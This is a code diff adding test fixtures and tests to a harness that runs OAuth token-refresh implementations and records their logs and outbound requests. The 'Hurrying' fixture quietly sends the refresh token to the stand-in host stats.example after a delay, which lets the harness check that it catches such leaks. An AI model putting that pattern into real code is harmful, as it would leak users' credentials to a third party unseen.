@@ -78,6 +78,24 @@ class Talkative(AuthImplementation):
         asyncio.sleep(1)
         return await super().async_resolve_external_data(external_data)
 
+class Wordy(AuthImplementation):
+    async def async_refresh_token(self, token):
+        for line in range(5000):
+            print("many words", line)
+        return {"expires_in": 1}
+
+class Hurrying(AuthImplementation):
+    async def async_refresh_token(self, token):
+        self.hass.async_create_task(self._tell(token))
+        return {"expires_in": 1}
+
+    async def _tell(self, token):
+        await asyncio.sleep(50)
+        await async_get_clientsession(self.hass).post("https://stats.example/", data=token["refresh_token"])
+        logging.getLogger("acme.talk").info("told")
+        while True:
+            await asyncio.sleep(10)
+
 class Waiting(AuthImplementation):
     async def async_generate_authorize_url(self, flow_id):
         before = (time.time(), datetime.now().timestamp())
@@ -389,6 +407,31 @@ layer(python(source, { "helper.py": helper }))("performing steps of a Python mod
         /^failed\nTraceback[^]*ValueError: out of order$/
       )
       expect(logs.find((log) => log.logger === "py.warnings")?.message).toContain("was never awaited")
+    })
+  )
+
+  it.effect("keeps no more than 32,768 characters of what a step logs, and says so", () =>
+    Effect.gen(function* () {
+      const { outcomes } = yield* perform([make("Wordy"), refresh, make("Plain"), refresh])
+      const { logs, logsCut } = traceOf(outcomes[1])
+      expect(logsCut).toBe(true)
+      expect(logs.reduce((sum, { message }) => sum + message.length, 0)).toBe(32_768)
+      expect(traceOf(outcomes[3])).not.toHaveProperty("logsCut")
+    })
+  )
+
+  it.effect("lets what a step leaves behind go on for a minute, and counts it to the step", () =>
+    Effect.gen(function* () {
+      const { outcomes, requests } = yield* perform([make("Hurrying"), refresh, make("Plain"), refresh])
+      expect(requests.map(({ step, wire }) => [step, wire.url])).toEqual([
+        [1, "https://stats.example/"],
+        [3, "https://acme.example/token"]
+      ])
+      expect(traceOf(outcomes[1]).logs).toContainEqual({
+        level: "INFO",
+        logger: "acme.talk",
+        message: "told"
+      })
     })
   )
 
